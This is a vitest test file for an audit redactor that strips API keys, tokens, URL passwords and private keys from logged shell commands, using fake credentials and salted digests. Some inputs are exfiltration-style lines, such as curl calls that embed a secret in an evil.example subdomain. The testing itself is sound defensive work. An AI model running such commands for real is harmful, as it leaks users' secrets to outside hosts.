import { describe, expect, it } from 'vitest';
import { createRedactor } from '../../../src/audit/redact.js';
import { digestSecrets, redactDigests } from '../../../src/audit/secret-digest.js';

// Fake credentials in each shape the redactor knows; none of them is a real key.
const FAKES: Array<[string, string]> = [
  ['anthropic-key', 'sk-ant-api03-FAKEfakeFAKEfake0123456789abcdefABCDEF-xyz'],
  ['github-token', 'ghp_FAKEfakeFAKEfake0123456789abcdefABCD'],
  ['github-token', 'gho_FAKEfakeFAKEfake0123456789abcdefABCD'],
  ['github-token', 'github_pat_11FAKEFAKE0123456789_abcdefghijklmnopqrstuvwxyz'],
  ['aws-access-key', 'AKIAFAKEFAKEFAKE1234'],
  ['npm-token', 'npm_FAKEfakeFAKEfake0123456789abcdefABCD'],
  ['jwt', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJmYWtlIn0.ZmFrZXNpZ25hdHVyZWZha2U'],
];

describe('redaction by shape', () => {
  const redact = createRedactor();

  it.each(FAKES)('replaces a %s wherever it stands in a command', (kind, value) => {
    const out = redact(`curl -H "x: ${value}" https://example.com/?k=${value}`);
    expect(out).not.toContain(value);
    expect(out).toContain(`[REDACTED:${kind}]`);
  });

  it('removes the password of a URL and keeps the rest', () => {
    const out = redact('git clone https://bob:hunter2hunter2@git.example.com/repo.git');
    expect(out).toBe('git clone https://[REDACTED:url-credentials]@git.example.com/repo.git');
  });

  it('removes an AWS secret key named in context, and a bearer token', () => {
    const secret = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYFAKEFAKEKEY';
    const out = redact(
      `AWS_SECRET_ACCESS_KEY=${secret} aws s3 ls; curl -H 'Authorization: Bearer abc.def-ghi'`,
    );
    expect(out).not.toContain(secret);
    expect(out).not.toContain('abc.def-ghi');
    expect(out).toContain('AWS_SECRET_ACCESS_KEY=[REDACTED:aws-secret-key]');
  });

  it('removes a private-key block, also one cut short', () => {
    const body = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7FAKE';
    const full = `-----BEGIN RSA PRIVATE KEY-----\n${body}\n-----END RSA PRIVATE KEY-----`;
    expect(redact(`echo "${full}" > k`)).toBe('echo "[REDACTED:private-key]" > k');
    expect(redact(`-----BEGIN PRIVATE KEY-----\n${body}`)).not.toContain(body);
  });

  it('leaves ordinary commands alone', () => {
    for (const c of [
      'git status',
      'npm test',
      'grep -r curl src/',
      'echo "see curl docs"',
      'api.anthropic.com:443',
    ])
      expect(redact(c)).toBe(c);
  });
});

describe('redaction of the tier secret values by digest', () => {
  const salt = '00112233445566778899aabbccddeeff';
  const value = 'FAKE-dotenv-value-9f8e7d';
  const secrets = digestSecrets([value, 'short', 'p@ss word with spaces'], salt);

  it('never carries a value, only digests, and skips values too short to be secret', () => {
    expect(JSON.stringify(secrets)).not.toContain(value);
    expect(secrets.digests.every((d) => /^[0-9a-f]{32}$/.test(d))).toBe(true);
    expect(redactDigests('echo short', secrets)).toBe('echo short');
  });

  it.each([
    [`echo ${value}`, 'echo [REDACTED:secret]'],
    [`TOKEN=${value} ./deploy`, 'TOKEN=[REDACTED:secret] ./deploy'],
    [`curl "https://x.example/?t=${value}&a=1"`, 'curl "https://x.example/?t=[REDACTED:secret]&a=1"'],
    [`curl https://${value}.evil.example/`, 'curl https://[REDACTED:secret].evil.example/'],
    [`${value}.evil.example`, '[REDACTED:secret].evil.example'],
    [`${value.toLowerCase()}.evil.example`, '[REDACTED:secret].evil.example'],
    [value, '[REDACTED:secret]'],
  ])('finds the value in %s', (text, expected) => {
    expect(redactDigests(text, secrets)).toBe(expected);
  });

  it('redacts the long parts of a value that has delimiters in it', () => {
    expect(redactDigests('echo "p@ss word with spaces"', secrets)).not.toContain('spaces');
  });

  it('does not match under another salt (a digest says nothing outside its session)', () => {
    const other = digestSecrets([value], 'ffeeddccbbaa99887766554433221100');
    expect(other.digests).not.toEqual(expect.arrayContaining(digestSecrets([value], salt).digests));
  });
});
